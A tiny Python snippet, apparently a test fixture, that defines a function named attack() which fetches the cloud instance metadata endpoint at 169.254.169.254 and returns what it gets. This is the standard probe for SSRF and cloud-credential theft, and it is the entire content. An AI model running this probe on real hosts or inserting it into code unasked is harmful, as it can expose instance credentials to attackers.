import httpx


def attack():
    return httpx.get("http://169.254.169.254/latest/meta-data/", timeout=1).text
